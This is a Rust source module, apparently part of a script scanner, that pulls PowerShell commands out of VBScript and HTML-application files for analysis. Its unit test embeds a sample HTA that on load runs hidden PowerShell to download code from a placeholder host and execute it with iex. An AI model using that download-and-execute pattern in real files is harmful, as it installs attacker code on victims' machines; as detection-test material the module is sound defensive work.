//! VBScript and HTML applications (`.vbs`, `.hta`, `.wsf`): not read as a
//! language of their own, only for the PowerShell a statement hands to
//! `powershell -c`, read then as PowerShell (see `flow::analyze`).

use std::sync::LazyLock;

use regex::Regex;

/// Whether `name` (lower case) is VBScript or an HTML application.
pub(super) fn is_vbscript(name: &str) -> bool {
    [".vbs", ".vbe", ".hta", ".wsf"].iter().any(|e| name.ends_with(e))
}

/// The PowerShell a VBScript statement hands to `powershell -c` (an HTA's
/// `sh.Run c, 0`), its string pieces joined over `& _` continuations and
/// `Chr(34)` put back as quotes: (the statement's first line, the code), at
/// most four.
pub(super) fn powershell_commands(text: &str) -> Vec<(usize, String)> {
    static PIECE: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r#""((?:[^"\n]|"")*)"|(?i:Chr(?:W)?\([ \t]*34[ \t]*\))"#).unwrap());
    static FLAG: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r"(?i)(?:^|\s)(?:powershell|pwsh)(?:\.exe)?\b[^\n]*?\s-(?:c|command|enc|encodedcommand)\s+").unwrap()
    });
    let mut out = Vec::new();
    let lines: Vec<&str> = text.split('\n').collect();
    let mut i = 0;
    while i < lines.len() && out.len() < 4 {
        let first = i;
        let mut statement = String::new();
        loop {
            let l = lines[i].trim_end_matches('\r');
            let continued = l.trim_end().ends_with(" _");
            statement.push_str(l.trim_end().trim_end_matches('_'));
            statement.push(' ');
            i += 1;
            if !continued || i >= lines.len() || i - first > 64 {
                break;
            }
        }
        if !statement.to_ascii_lowercase().contains("powershell") && !statement.to_ascii_lowercase().contains("pwsh") {
            continue;
        }
        let joined: String = PIECE
            .captures_iter(&statement)
            .map(|c| c.get(1).map_or_else(|| "\"".to_owned(), |m| m.as_str().replace("\"\"", "\"")))
            .collect();
        let Some(m) = FLAG.find(&joined) else { continue };
        let code = joined[m.end()..].trim().trim_matches('"').to_owned();
        if !code.is_empty() {
            out.push((first + 1, code));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_vbscript_statements_powershell_is_joined_over_its_continuations() {
        let hta = "<script language=\"VBScript\">\nSub Window_OnLoad\n  c = \"powershell -nop -w hidden -c \" & Chr(34) & _\n      \"$d=(New-Object Net.WebClient).DownloadString('https://h.invalid/x');\" & _\n      \"iex $d\" & Chr(34)\n  sh.Run c, 0, False\nEnd Sub\n";
        assert_eq!(
            powershell_commands(hta),
            vec![(3, "$d=(New-Object Net.WebClient).DownloadString('https://h.invalid/x');iex $d".to_owned())]
        );
        assert!(powershell_commands("MsgBox \"powershell is a shell\"\n").is_empty());
    }
}
